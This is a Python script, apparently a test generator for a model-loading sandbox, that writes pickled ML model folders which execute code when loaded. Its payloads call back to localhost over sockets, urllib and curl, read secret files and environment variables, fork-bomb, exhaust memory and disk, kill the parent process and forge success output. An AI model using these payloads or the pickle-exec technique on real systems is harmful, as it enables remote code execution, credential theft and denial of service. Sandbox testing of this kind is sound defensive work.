"""Writes a model folder whose pickle runs code on load: `hostile.py KIND FOLDER [ARGUMENT]`."""

import json
import os
import pickle
import sys

LOUD = "import os, sys, time, socket\n"
PARTS = {
    "socket": "socket.create_connection(('127.0.0.1', {argument}), 5).sendall(b'out')",
    "urllib": "import urllib.request; urllib.request.urlopen('http://127.0.0.1:{argument}/', timeout=5)",
    "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'out', ('127.0.0.1', {argument}))",
    "dns": "socket.getaddrinfo('example.com', 443)\nraise ValueError('resolved')",
    "quiet": """
for attempt in (
    lambda: socket.create_connection(('127.0.0.1', {argument}), 5).sendall(b'out'),
    lambda: os.system('curl -s http://127.0.0.1:{argument}/'),
    lambda: __import__('subprocess').run(['python3', '-c', "import socket; socket.create_connection(('127.0.0.1', {argument}))"]),
):
    try:
        attempt()
    except BaseException:
        pass
raise ValueError('tried everything')
""",
    "secret": "raise ValueError('found ' + open({argument!r}).read())",
    "environment": "raise ValueError('environment ' + repr(dict(os.environ)) + open('/proc/%d/environ' % os.getppid()).read())",
    "fork": "while True: os.fork()",
    "sleep": "time.sleep(1e6)",
    "spin": "while True: pass",
    "memory": "held = bytearray(8 << 30)",
    "sparse": "f = open(os.environ['TMPDIR'] + '/big', 'wb'); f.seek(10 << 30); f.write(b'x'); f.close()",
    "many": """
for i in range(10):
    fd = os.open(os.environ['TMPDIR'] + '/%d' % i, os.O_CREAT | os.O_RDWR)
    os.posix_fallocate(fd, 0, 1 << 30)
    os.close(fd)
    time.sleep(0.3)
time.sleep(1e6)
""",
    "elsewhere": "open({argument!r} + '/planted', 'w').write('here')",
    "parent": "os.kill(os.getppid(), 9)",
    "exit": "os._exit(0)",
    "crash": "import ctypes; ctypes.string_at(0)",
    "noise": "while True: os.write(1, b'x' * 65536)",
    "forged": """
for fd in range(3, 64):
    try:
        os.write(fd, b'{{"ok": true, "message": "all is well"}}\\n')
    except OSError:
        pass
here = os.environ['TMPDIR']
for name in ('signature.json', 'examples.json', 'conversion.json'):
    open(here + '/' + name, 'w').write('{{}}')
os.symlink({argument!r}, here + '/model.onnx')
os._exit(0)
""",
    "nonsense": """
for fd in range(3, 64):
    try:
        os.write(fd, b'{{"ok": true, "message": "all is well"}}\\n')
    except OSError:
        pass
here = os.environ['TMPDIR']
for name in ('signature.json', 'examples.json', 'conversion.json', 'model.onnx'):
    open(here + '/' + name, 'w').write('[')
os._exit(0)
""",
}


class Runs:
    """Code that runs when the pickle is read."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def main(kind, folder, argument=""):
    """Writes the folder."""
    argument = int(argument) if argument.isdigit() else argument
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/model.pkl", "wb") as file:
        pickle.dump(Runs(LOUD + PARTS[kind].format(argument=argument)), file)
    flavor = {"pickled_model": "model.pkl", "serialization_format": "pickle"}
    with open(f"{folder}/MLmodel", "w") as file:
        json.dump({"flavors": {"sklearn": flavor}}, file)


if __name__ == "__main__":
    main(*sys.argv[1:])
